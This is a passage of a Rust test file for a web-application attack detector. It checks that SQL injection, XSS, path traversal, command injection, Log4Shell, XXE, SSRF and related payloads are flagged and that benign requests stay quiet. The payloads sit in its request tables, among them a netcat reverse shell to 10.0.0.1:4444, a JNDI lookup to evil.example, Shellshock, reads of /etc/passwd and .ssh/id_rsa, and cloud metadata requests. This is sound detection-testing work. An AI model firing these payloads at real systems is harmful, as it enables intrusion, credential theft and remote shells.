//! Detector tests on whole transactions, built by the real HTTP parser.

use super::*;
use crate::record::Record;

fn run(req: &str, resp: &str) -> Vec<Record<'static>> {
    let mut d = Detector::new(DetectConfig::default());
    let mut out = vec![];
    for t in raw::transactions(req.as_bytes(), resp.as_bytes()) {
        d.push(&t, &mut |r| out.push(r));
    }
    out
}

fn attack(recs: &[Record<'static>]) -> Option<Attack> {
    recs.iter().find_map(|r| match r {
        Record::Attack(a) => Some(a.clone()),
        _ => None,
    })
}

const OK: &str = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok";

fn resp(status: &str, headers: &str, body: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn get(uri: &str, headers: &str) -> String {
    format!("GET {uri} HTTP/1.1\r\nHost: app\r\n{headers}\r\n")
}

fn post(uri: &str, ctype: &str, body: &str) -> String {
    format!(
        "POST {uri} HTTP/1.1\r\nHost: app\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[test]
fn flags_each_class_at_its_point() {
    let table: &[(String, &str, &str)] = &[
        (
            get("/item?id=1%27%20OR%20%271%27%3D%271", ""),
            "sqli",
            "query.id",
        ),
        (
            get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
            "xss",
            "query.q",
        ),
        (
            get("/search?q=%253Csvg%2520onload%253Dalert(1)%253E", ""),
            "xss",
            "query.q",
        ),
        (get("/static/../../etc/passwd", ""), "ptrav", "path"),
        (
            get("/cgi-bin/status?host=127.0.0.1;cat%20/etc/passwd", ""),
            "rce",
            "query.host",
        ),
        (
            get("/", "User-Agent: ${jndi:ldap://x.example/a}\r\n"),
            "log4shell",
            "header.User-Agent",
        ),
        (
            get("/", "X-Api-Version: ${${lower:j}ndi:ldap://x/a}\r\n"),
            "log4shell",
            "header.X-Api-Version",
        ),
        (
            get("/", "Cookie: pref=%7B%7B7*7%7D%7D\r\n"),
            "ssti",
            "cookie.pref",
        ),
        (
            post(
                "/api/login",
                "application/json",
                r#"{"user":"admin' --","password":"x"}"#,
            ),
            "sqli",
            "body.json.user",
        ),
        (
            post(
                "/api/login",
                "application/json",
                r#"{"user":{"$ne":null},"password":{"$ne":null}}"#,
            ),
            "nosql",
            "body.json_key.user.$ne",
        ),
        (
            get("/login?user[$ne]=x", ""),
            "nosql",
            "query_key.user[$ne]",
        ),
        (
            post(
                "/x",
                "application/xml",
                r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>"#,
            ),
            "xxe",
            "body.xml.doctype",
        ),
        (
            get("/fetch?url=http://169.254.169.254/latest/meta-data/", ""),
            "ssrf",
            "query.url",
        ),
        (
            get("/redir?next=%0d%0aSet-Cookie:%20a=1", ""),
            "crlf",
            "query.next",
        ),
        (
            post(
                "/f",
                "application/x-www-form-urlencoded",
                "data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
            ),
            "xss",
            "body.form.data",
        ),
        (
            post(
                "/api",
                "application/json",
                r#"{"a":{"b":{"c":"<img src=x onerror=alert(1)>"}}}"#,
            ),
            "xss",
            "body.json.a.b.c",
        ),
        (
            get("/", "User-Agent: () { :; }; /bin/bash -c id\r\n"),
            "rce",
            "header.User-Agent",
        ),
        (
            get("/", "User-Agent: sqlmap/1.7\r\n"),
            "scanner",
            "header.User-Agent",
        ),
        (get("/.git/config", ""), "scanner", "path"),
        (
            post(
                "/api",
                "application/json",
                r#"{"__proto__":{"admin":true}}"#,
            ),
            "proto",
            "body.json_key.__proto__",
        ),
    ];
    for (req, class, point) in table {
        let a = attack(&run(req, OK)).unwrap_or_else(|| panic!("no attack for {req:?}"));
        assert!(
            a.hits
                .iter()
                .any(|h| h.class == *class && h.point == *point),
            "{req:?}: want {class} at {point}, got {:?}",
            a.hits
        );
    }
}

#[test]
fn benign_requests_are_quiet() {
    let table: &[String] = &[
        get("/api/v1/users?page=2&limit=3", "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\n"),
        get("/search?q=O%27Brien+and+sons", ""),
        get("/search?q=select+a+plan", ""),
        get("/calc?expr=1+-+2", ""),
        post("/api/v1/users/130", "application/json", r#"{"name":"Seán O'Brien","bio":"I like **bold** and <b>bold</b> text; see https://example.com","tags":["a & b"]}"#),
        post("/comment", "application/x-www-form-urlencoded", "body=Use+%60git+status%60+then+%60git+log%60.&name=Tom+%26+Jerry"),
        post("/api/orders", "application/json", r#"{"sku":"SKU-104","quantity":3,"note":"deliver to door; ring twice","callback":"https://shop.example.com/hooks/order"}"#),
    ];
    for req in table {
        assert_eq!(attack(&run(req, OK)), None, "{req:?}");
    }
}

#[test]
fn outcome_from_response() {
    let leak = resp("200 OK", "", "root:x:0:0:root:/root:/bin/bash\n");
    let a = attack(&run(&get("/f?file=../../../../etc/passwd", ""), &leak)).unwrap();
    assert_eq!(a.outcome.as_deref(), Some("likely_succeeded"));
    assert_eq!(a.severity.as_deref(), Some("critical"));
    let blocked = resp("403 Forbidden", "", "");
    let a = attack(&run(&get("/f?file=../../../../etc/passwd", ""), &blocked)).unwrap();
    assert_eq!(a.outcome.as_deref(), Some("blocked"));
    let reflected = resp(
        "200 OK",
        "Content-Type: text/html\r\n",
        "<p>Results for <script>alert(1)</script>",
    );
    let a = attack(&run(
        &get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
        &reflected,
    ))
    .unwrap();
    assert_eq!(a.outcome.as_deref(), Some("likely_succeeded"));
    let escaped = resp(
        "200 OK",
        "Content-Type: text/html\r\n",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    );
    let a = attack(&run(
        &get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
        &escaped,
    ))
    .unwrap();
    assert_eq!(a.outcome.as_deref(), Some("unknown"));
    let sql_err = resp("500 Error", "", "You have an error in your SQL syntax near");
    let a = attack(&run(&get("/i?id=1%27%20or%201=1--", ""), &sql_err)).unwrap();
    assert_eq!(a.outcome.as_deref(), Some("likely_succeeded"));
}

#[test]
fn vulns_once_per_endpoint() {
    let mut d = Detector::new(DetectConfig::default());
    let mut out = vec![];
    let resp = resp(
        "500 Error",
        "Server: Apache/2.2.8\r\n",
        "java.lang.IllegalStateException\n\tat com.x.App.run(App.java:1)\n",
    );
    for id in ["107", "138", "6f1c2a9e-0b7d-4c3a-9f1e-2d4b5a6c7d8e"] {
        for t in raw::transactions(
            get(&format!("/api/users/{id}"), "").as_bytes(),
            resp.as_bytes(),
        ) {
            d.push(&t, &mut |r| out.push(r));
        }
    }
    let vulns: Vec<String> = out
        .iter()
        .filter_map(|r| match r {
            Record::Vuln(v) => Some(v.class.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(vulns, ["info_leak.stack_trace", "outdated_software"]);
    // Keyed by the inventory's template, as tw-discover writes it.
    assert!(out.iter().all(|r| match r {
        Record::Vuln(v) => v.endpoint.as_deref() == Some("/api/users/{userId}"),
        _ => true,
    }));
}

#[test]
fn behaviour_brute_force_and_forced_browsing() {
    let mut cfg = DetectConfig::default();
    cfg.behaviour.brute_force = 3;
    cfg.behaviour.forced_browsing = 4;
    let mut d = Detector::new(cfg);
    let mut out = vec![];
    let denied = resp("401 Unauthorized", "", "");
    let missing = resp("404 Not Found", "", "");
    for i in 0..5 {
        let req = post(
            "/login",
            "application/x-www-form-urlencoded",
            &format!("user=u{i}&pw=x"),
        );
        for t in raw::transactions(req.as_bytes(), denied.as_bytes()) {
            d.push(&t, &mut |r| out.push(r));
        }
        for t in raw::transactions(
            get(&format!("/old{i}.html"), "").as_bytes(),
            missing.as_bytes(),
        ) {
            d.push(&t, &mut |r| out.push(r));
        }
    }
    let classes: Vec<String> = out
        .iter()
        .filter_map(|r| match r {
            Record::Attack(a) => Some(a.hits[0].rule.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(
        classes,
        ["bruteforce.failed_logins", "forced_browsing.many_404"]
    );
}

#[test]
fn config_disables_and_allowlists() {
    let req = get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "");
    let mut cfg = DetectConfig::default();
    cfg.disabled.insert("xss".into());
    let mut d = Detector::new(cfg);
    let mut out = vec![];
    for t in raw::transactions(req.as_bytes(), OK.as_bytes()) {
        d.push(&t, &mut |r| out.push(r));
    }
    assert!(out.is_empty());
    let cfg = DetectConfig {
        allow_points: vec!["query.*".into()],
        ..DetectConfig::default()
    };
    let mut d = Detector::new(cfg);
    for t in raw::transactions(req.as_bytes(), OK.as_bytes()) {
        d.push(&t, &mut |r| out.push(r));
    }
    assert!(out.is_empty());
}

#[test]
fn no_panic_on_hostile_requests() {
    let long = "A".repeat(300_000);
    let nested = "%25".repeat(20_000);
    for req in [
        get(&format!("/?q={long}"), ""),
        get(&format!("/?q={nested}"), ""),
        post("/", "application/json", &"[".repeat(100_000)),
        post("/", "multipart/form-data; boundary=", "--\r\n\r\n"),
        post(
            "/",
            "multipart/form-data; boundary=x",
            &"--x\r\n".repeat(5000),
        ),
        get("/?%ff%fe=%c0", "Cookie: ;;;=;a\r\n"),
    ] {
        let _ = run(&req, OK);
    }
}

/// Payloads that `/` splits across segments are judged on the whole
/// decoded path; a segment's own hit is not repeated there.
#[test]
fn whole_path_payloads() {
    for (uri, class) in [
        ("/index.php/%3Csvg/onload=alert()%3E", "xss"),
        ("/index.php/<svg/onload=alert()>", "xss"),
        ("/foo/24'union+all+select+1,2,3", "sqli"),
    ] {
        let a = attack(&run(&get(uri, ""), OK)).unwrap_or_else(|| panic!("no attack for {uri}"));
        assert!(
            a.hits
                .iter()
                .any(|h| h.class == class && (h.point == "path" || h.point.starts_with("path."))),
            "{uri}: {:?}",
            a.hits
        );
    }
    let a = attack(&run(
        &get("/api/users/1%20UNION%20SELECT%20a,b%20FROM%20users--", ""),
        OK,
    ))
    .expect("sqli in a segment");
    let sqli: Vec<&str> = a
        .hits
        .iter()
        .filter(|h| h.class == "sqli")
        .map(|h| h.point.as_str())
        .collect();
    assert_eq!(sqli, ["path.2"]);
    for uri in ["/wiki/C++", "/files/my+report+2024.pdf", "/search/o'brien"] {
        assert_eq!(attack(&run(&get(uri, ""), OK)), None, "{uri}");
    }
}

/// An XXE payload is one hit, at the DOCTYPE.
#[test]
fn xxe_reported_once() {
    let req = post(
        "/x",
        "application/xml",
        r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>"#,
    );
    let a = attack(&run(&req, OK)).expect("xxe");
    let xxe: Vec<&str> = a
        .hits
        .iter()
        .filter(|h| h.class == "xxe")
        .map(|h| h.point.as_str())
        .collect();
    assert_eq!(xxe, ["body.xml.doctype"]);
}

/// The raw requests `scripts/detect-score` reads: every attack row of the
/// CRS regression corpus (when ../shared/corpora is present) and every
/// request of testdata/benign/requests.txt.
pub(super) fn score_corpus() -> Vec<Vec<u8>> {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let mut out = vec![];
    if let Ok(text) = std::fs::read_to_string(root.join("../shared/corpora/crs-regression.jsonl")) {
        for line in text.lines() {
            let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
                continue;
            };
            if v["attack"] != true {
                continue;
            }
            if let Ok(raw) = crate::record::b64::decode(v["raw_b64"].as_str().unwrap_or("")) {
                out.push(raw);
            }
        }
    }
    let text =
        std::fs::read_to_string(root.join("testdata/benign/requests.txt")).unwrap_or_default();
    for block in text.split("### ").skip(1) {
        let (_, req) = block.split_once('\n').unwrap_or((block, ""));
        let (head, body) = req.split_once("\n\n").unwrap_or((req, ""));
        let body = body.strip_suffix('\n').unwrap_or(body);
        out.push(format!("{}\r\n\r\n{body}", head.replace('\n', "\r\n")).into_bytes());
    }
    out
}

/// `DETECT_DUMP=FILE cargo test --release -p tapwatch-common dump_score_corpus -- --ignored`
/// writes every attack record the detector makes of the score corpus, in
/// full (class, point, payload, rule, confidence of every hit): diff two
/// dumps to see that a speed change kept every finding.
#[test]
#[ignore]
fn dump_score_corpus() {
    use std::io::Write;
    let Some(path) = std::env::var_os("DETECT_DUMP") else {
        println!("SKIP: DETECT_DUMP not set");
        return;
    };
    // DETECT_DUMP_PARANOIA=N dumps the hits at that paranoia level (default 1).
    let mut cfg = raw::score_config();
    cfg.paranoia = std::env::var("DETECT_DUMP_PARANOIA")
        .ok()
        .and_then(|l| l.parse().ok())
        .unwrap_or(1);
    let mut d = Detector::new(cfg);
    let mut f = std::io::BufWriter::new(std::fs::File::create(path).expect("dump file"));
    for (i, raw_req) in score_corpus().iter().enumerate() {
        for t in raw::transactions(raw_req, raw::NEUTRAL_RESPONSE) {
            d.push(&t, &mut |r| {
                if let Record::Attack(a) = r {
                    for h in a.hits {
                        writeln!(
                            f,
                            "{i}\t{}\t{}\t{}\t{:?}\t{:?}",
                            h.class, h.point, h.rule, h.confidence, h.payload
                        )
                        .expect("write");
                    }
                }
            });
        }
    }
}

/// A form body that is one bare word is judged as the value it is.
#[test]
fn bare_word_form_body() {
    let a = attack(&run(
        &post(
            "/",
            "application/x-www-form-urlencoded",
            "INFORMATION_SCHEMA",
        ),
        OK,
    ))
    .expect("a bare schema name in a form body");
    assert!(
        a.hits
            .iter()
            .any(|h| h.class == "sqli" && h.point == "body.form.INFORMATION_SCHEMA"),
        "{:?}",
        a.hits
    );
    for body in ["hello", "subscribe", "true"] {
        let req = post("/", "application/x-www-form-urlencoded", body);
        assert_eq!(attack(&run(&req, OK)), None, "{body}");
    }
}

/// Attacks of the gated classes (and a few others) that the gate proof runs
/// on even when the CRS corpus (../shared) is absent, as on a fresh clone.
const GATE_ATTACKS: &[&str] = &[
    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /p?name=%22%3E%3Csvg/onload=alert(document.cookie)%3E HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /go?u=javascript:alert(1) HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /ping?host=$(whoami) HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /ping?host=x%7Cnc%20-e%20/bin/sh%2010.0.0.1%204444 HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /file?name=../../../../etc/passwd HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a.example\r\nCookie: s=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7\r\n\r\n",
    "POST /api/users HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\nContent-Length: 49\r\n\r\n{\"bio\":\"<img src=x onerror=alert(1)>\",\"n\":\"`id`\"}",
    // Words only: what the word gates (`gate::sqli_words`, `gate::cmdi_words`) must let through.
    "GET /admin?cmd=visudo HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /admin?cmd=WHOAMI HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /admin?cmd=nohup+ifconfig HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /admin?cmd=ansible-playbook+site HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /list?t=INFORMATION_SCHEMA HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /list?p=xp_cmdshell HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /list?id=1+or+true HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /list/INFORMATION_SCHEMA/tables HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "POST /api/run HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n{\"cmd\":\"visudo\",\"t\":\"OPENROWSET\",\"n\":\"1\"}",
    // File access in every spelling `gate::may_files` must let through.
    "GET /view?f=..%5C..%5Cboot.ini HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /view?f=php://filter/resource=index HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /view?f=file:///etc/passwd HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /view?f=jar:file:x.jar!/a HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /view?f=0x2e0x2e/0x2e0x2e/etc/passwd HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /view?f=%5CPROC%5Cself%5Cenviron HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /view?f=x/proc/interrupts HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /view?f=.ssh/id_rsa HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /view?f=/sys/class/net HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /.env HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /etc/passwd HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /@fs/app/x HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /backup/db.sql HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a.example\r\nReferer: /proc/self/environ\r\n\r\n",
];

/// Every hit of the score corpus (CRS attack rows when present, the benign
/// set always) and of [`GATE_ATTACKS`], in full, from a detector with or
/// without its gates.
fn corpus_hits(gates: bool, paranoia: u8) -> Vec<String> {
    let mut cfg = raw::score_config();
    cfg.paranoia = paranoia;
    let mut d = Detector::new(cfg);
    d.gates = gates;
    let mut out = vec![];
    let mut corpus = score_corpus();
    corpus.extend(GATE_ATTACKS.iter().map(|r| r.as_bytes().to_vec()));
    for (i, raw_req) in corpus.iter().enumerate() {
        for t in raw::transactions(raw_req, raw::NEUTRAL_RESPONSE) {
            d.push(&t, &mut |r| {
                if let Record::Attack(a) = r {
                    for h in a.hits {
                        out.push(format!(
                            "{i}\t{}\t{}\t{}\t{:?}\t{:?}",
                            h.class, h.point, h.rule, h.confidence, h.payload
                        ));
                    }
                }
            });
        }
    }
    out
}

/// The per-value gates (`gate::Shape`) only skip detectors that could not
/// have fired: gated and ungated runs over the score corpus make the same
/// hits, in the same order.
#[test]
fn gates_keep_every_hit() {
    let gated = corpus_hits(true, 1);
    let ungated = corpus_hits(false, 1);
    for class in ["\txss\t", "\trce\t", "\tsqli\t", "\tptrav\t", "\tssrf\t"] {
        assert!(
            ungated.iter().any(|h| h.contains(class)),
            "the corpus makes {class:?} hits"
        );
    }
    // Hits on values of words only, which the word gates must not stop.
    for payload in [
        "\"visudo\"",
        "\"WHOAMI\"",
        "\"nohup ifconfig\"",
        "\"INFORMATION_SCHEMA\"",
        "\"xp_cmdshell\"",
        "\"OPENROWSET\"",
    ] {
        assert!(
            ungated.iter().any(|h| h.ends_with(payload)),
            "the corpus makes a hit on {payload}"
        );
    }
    assert_eq!(gated.len(), ungated.len());
    for (g, u) in gated.iter().zip(&ungated) {
        assert_eq!(g, u);
    }
}

/// Values each gate lets through or stops, and the detectors agree.
#[test]
fn gates_table() {
    use super::gate::Shape;
    // (value, may_xss, may_cmdi, may_java_base64, may_sqli)
    let table: &[(&str, bool, bool, bool, bool)] = &[
        ("130", false, false, false, false),
        ("1, 2 - 3_4+5", true, false, false, false),
        ("visudo", false, true, false, false),
        (":(){ :|:& };:", true, true, false, true),
        ("-->", true, true, false, true),
        ("+ADw-script+AD4-", true, false, true, false),
        ("\\xbcscript\\xbe", true, true, true, true),
        ("\u{bc}script\u{be}", true, true, false, true),
        ("door blue", false, false, false, false),
        ("deliver to the door", false, false, false, false),
        ("rO0ABXNy", false, false, true, false),
        ("x ABC", false, false, true, false),
        ("Y29tbW9u", false, false, true, false),
    ];
    for &(v, xss_, cmdi_, b64, sqli_) in table {
        let s = Shape::of(v);
        assert_eq!(s.may_xss(), xss_, "xss gate {v:?}");
        assert_eq!(s.may_cmdi(v), cmdi_, "cmdi gate {v:?}");
        assert_eq!(s.may_java_base64(), b64, "java_base64 gate {v:?}");
        assert_eq!(s.may_sqli(v), sqli_, "sqli gate {v:?}");
        if !s.may_java_base64() {
            assert_eq!(
                rules::java_base64(v),
                None,
                "java_base64 past its gate: {v:?}"
            );
        }
        if !s.may_xss() {
            assert_eq!(xss::detect(v), None, "xss fires past its gate: {v:?}");
        }
        if !s.may_cmdi(v) {
            assert_eq!(cmdi::detect(v), None, "cmdi fires past its gate: {v:?}");
        }
        if !s.may_sqli(v) {
            let mut scratch = sqli::Scratch::default();
            assert_eq!(
                sqli::detect(v, &mut scratch),
                None,
                "sqli fires past its gate: {v:?}"
            );
        }
    }
    // (value, kind, may_files): what the file gate stops, and `files` agrees.
    let files_table: &[(&str, Kind, bool)] = &[
        ("/api/v1/users/130", Kind::Path, false),
        ("/api/v1/users/130", Kind::Value, true),
        ("app/12.3", Kind::Header, false),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0)",
            Kind::Header,
            false,
        ),
        ("12 O'Connell St.", Kind::Value, false),
        ("application/json", Kind::Header, false),
        ("../x", Kind::Value, true),
        ("a\\PROC\\self", Kind::Value, true),
        ("http://x", Kind::Value, true),
        ("JAR:FILE:x", Kind::Value, true),
        ("0X2E0x2e/", Kind::Value, true),
        ("a/.ssh/id_rsa", Kind::Cookie, true),
        (".SSH/id_rsa", Kind::Value, true),
        ("/ETC\\passwd", Kind::Path, true),
        ("/x/db.sql", Kind::Path, true),
        ("/@fs/x", Kind::Path, true),
    ];
    for &(v, kind, files_) in files_table {
        assert_eq!(super::gate::may_files(v, kind), files_, "files gate {v:?}");
        if !files_ {
            let cx = rules::Ctx {
                kind,
                name: "query.f",
                in_url: true,
                host: "a.example",
            };
            assert_eq!(rules::files(v, &cx), None, "files past its gate: {v:?}");
        }
    }
    assert!(xss::detect("-->").is_some());
    assert!(cmdi::detect(":(){ :|:& };:").is_some());
    assert!(rules::java_base64("rO0ABXNy").is_some());
}

/// The word gates on values of words only (no byte beyond letters, digits
/// and ` -_,@+`): which pass, and that a detector fires on none they stop.
/// Every word that fires alone must pass its gate.
#[test]
fn word_gates_table() {
    use super::gate::Shape;
    // (value, may_cmdi, may_sqli)
    let table: &[(&str, bool, bool)] = &[
        // Single words that fire today.
        ("visudo", true, false),
        ("WHOAMI", true, false),
        ("ifconfig", true, false),
        ("  @whoami", true, false),
        ("ansible-playbook site", true, false),
        ("time sh -c whoami", true, false),
        ("nohup ifconfig", true, false),
        ("if exist boot ini", true, false),
        ("x POWERSHELL -c whoami", true, false),
        ("INFORMATION_SCHEMA", false, true),
        ("xp_cmdshell", false, true),
        ("OPENROWSET", false, true),
        ("pg_sleep 5", false, false),
        // Keywords and names make SQL possible.
        ("1 or true", false, true),
        ("select a plan", false, true),
        ("Null", false, true),
        ("a, @@version", false, true),
        ("x -- y", false, true),
        ("1_union", false, false),
        // Ordinary words.
        ("door blue 17", false, false),
        ("deliver to the door 42", false, false),
        ("Dublin", false, false),
        ("SKU-104", false, false),
        ("bob@example", false, false),
        ("4f2a9c", false, false),
        ("550e8400-e29b-41d4-a716-446655440000", false, false),
        ("2026-11-22", false, false),
        ("cat", true, false),
        ("the cat sat", false, false),
        ("1 2 3, 4", false, false),
    ];
    let mut scratch = sqli::Scratch::default();
    for &(v, cmdi_, sqli_) in table {
        let s = Shape::of(v);
        assert!(!s.special, "{v:?} is words only");
        assert_eq!(s.may_cmdi(v), cmdi_, "cmdi word gate {v:?}");
        assert_eq!(s.may_sqli(v), sqli_, "sqli word gate {v:?}");
        if !cmdi_ {
            assert_eq!(cmdi::detect(v), None, "cmdi fires past its gate: {v:?}");
        }
        if !sqli_ {
            assert_eq!(
                sqli::detect(v, &mut scratch),
                None,
                "sqli fires past its gate: {v:?}"
            );
        }
    }
    for fires in [
        "visudo",
        "WHOAMI",
        "nohup ifconfig",
        "ansible-playbook site",
    ] {
        assert!(cmdi::detect(fires).is_some(), "{fires:?} fires");
    }
    for fires in ["INFORMATION_SCHEMA", "xp_cmdshell", "OPENROWSET"] {
        assert!(
            sqli::detect(fires, &mut scratch).is_some(),
            "{fires:?} fires"
        );
    }
}

/// The rules of paranoia levels 2-4 run outside the gates: at level 4 a
/// gated and an ungated run over the score corpus make the same hits, and
/// they include hits of every level.
#[test]
fn gates_keep_every_hit_at_paranoia_4() {
    let gated = corpus_hits(true, 4);
    let ungated = corpus_hits(false, 4);
    for rule in [
        "\tsqli.pl2.",
        "\trfi.pl2.",
        "\trce.pl2.",
        "\tsqli.pl3.",
        "\tsqli.pl4.",
    ] {
        assert!(
            ungated.iter().any(|h| h.contains(rule)),
            "the corpus makes {rule:?} hits at paranoia 4"
        );
    }
    assert_eq!(gated.len(), ungated.len());
    for (g, u) in gated.iter().zip(&ungated) {
        assert_eq!(g, u);
    }
}

/// The hits of one request at a paranoia level.
fn at_level(req: &str, paranoia: u8) -> Vec<Hit> {
    let mut cfg = raw::score_config();
    cfg.paranoia = paranoia;
    let mut d = Detector::new(cfg);
    let mut hits = vec![];
    for t in raw::transactions(req.as_bytes(), OK.as_bytes()) {
        d.push(&t, &mut |r| {
            if let Record::Attack(a) = r {
                hits.extend(a.hits);
            }
        });
    }
    hits
}

/// Each paranoia rule: quiet below its level, found from it on (values as
/// a form field `v`, URL-encoded by the table).
#[test]
fn paranoia_levels() {
    let form = |v: &str| {
        let enc: String = v
            .bytes()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    (c as char).to_string()
                } else {
                    format!("%{c:02X}")
                }
            })
            .collect();
        post(
            "/post",
            "application/x-www-form-urlencoded",
            &format!("v={enc}"),
        )
    };
    let cases: &[(&str, u8, &str)] = &[
        ("IS NULL", 2, "sqli.pl2.operator_fragment"),
        ("in (0,1)", 2, "sqli.pl2.operator_fragment"),
        ("<>", 2, "sqli.pl2.operator_fragment"),
        (">>", 2, "sqli.pl2.operator_fragment"),
        ("2499999||this.product", 2, "sqli.pl2.operator_fragment"),
        ("replace(", 2, "sqli.pl2.function_stub"),
        ("length||(", 2, "sqli.pl2.function_stub"),
        ("'alter a", 2, "sqli.pl2.break_keyword"),
        ("2 union all", 2, "sqli.pl2.set_operator"),
        ("ORder by", 2, "sqli.pl2.order_by"),
        ("/3 or ", 2, "sqli.pl2.dangling_logic"),
        ("VALUES ('a', 'b')", 2, "sqli.pl2.literal_list"),
        ("nvarchar", 2, "sqli.pl2.type_name"),
        ("(((((())))))", 2, "sqli.pl2.special_chars"),
        ("'0:0:6", 3, "sqli.pl3.quote_number"),
        ("foo....", 3, "sqli.pl3.repeated_punct"),
        ("!@#$%^", 3, "sqli.pl3.special_chars"),
        ("!@", 4, "sqli.pl4.special_chars"),
        ("pip install something", 2, "rce.pl2.tool_word"),
        (";top now", 2, "rce.pl2.tool_word"),
        ("~0", 2, "rce.pl2.tilde_expansion"),
        ("!!", 3, "rce.pl3.history_expansion"),
        ("http://foo.bar", 2, "rfi.pl2.offsite_url"),
        ("cnVudGltZQ", 3, "java.pl3.base64_keyword"),
    ];
    for (v, level, rule) in cases {
        let req = form(v);
        for below in 1..*level {
            let hits = at_level(&req, below);
            assert!(hits.is_empty(), "{v:?} at level {below}: {hits:?}");
        }
        for l in *level..=MAX_PARANOIA {
            let hits = at_level(&req, l);
            assert!(
                hits.iter().any(|h| h.rule == *rule),
                "{v:?} at level {l}: {hits:?}"
            );
        }
    }
    // ORM lookups live in the parameter name.
    let orm = get("/get?user__profile__icontains=x&username__startswith=p", "");
    assert!(at_level(&orm, 1).is_empty());
    let rules: Vec<String> = at_level(&orm, 3).into_iter().map(|h| h.rule).collect();
    assert!(
        rules.contains(&"nosql.pl2.orm_traversal".to_string()),
        "{rules:?}"
    );
    assert!(
        rules.contains(&"nosql.pl3.orm_lookup".to_string()),
        "{rules:?}"
    );
    // Look-alikes stay quiet at level 2.
    for v in [
        "a || b",
        "in stock",
        "order by price",
        "price >= 10 and <= 20",
        "execute the plan",
        "next >>>",
        "D'Artagnan and l'Oréal",
        "https://news.example.org/2024/05/garden-tips",
        "0x52908400098527886E0F7030069857D2E4169EE7",
        "| name | qty |",
    ] {
        let hits = at_level(&form(v), 2);
        assert!(hits.is_empty(), "{v:?}: {hits:?}");
    }
    // Out-of-range levels are clamped.
    let d = Detector::new(DetectConfig {
        paranoia: 9,
        ..DetectConfig::default()
    });
    assert_eq!(d.config().paranoia, MAX_PARANOIA);
}

/// A multipart upload of `content` as `file.bin`, as raw bytes.
fn upload(content: &[u8]) -> Vec<u8> {
    let mut body =
        b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"file.bin\"\r\n\
Content-Type: application/octet-stream\r\n\r\n"
            .to_vec();
    body.extend_from_slice(content);
    body.extend_from_slice(b"\r\n--XyZ--\r\n");
    let mut req = format!(
        "POST /upload HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: multipart/form-data; boundary=XyZ\r\n\
Content-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend(body);
    req
}

fn upload_rules(content: &[u8]) -> Vec<String> {
    let mut d = Detector::new(DetectConfig::default());
    let mut out = vec![];
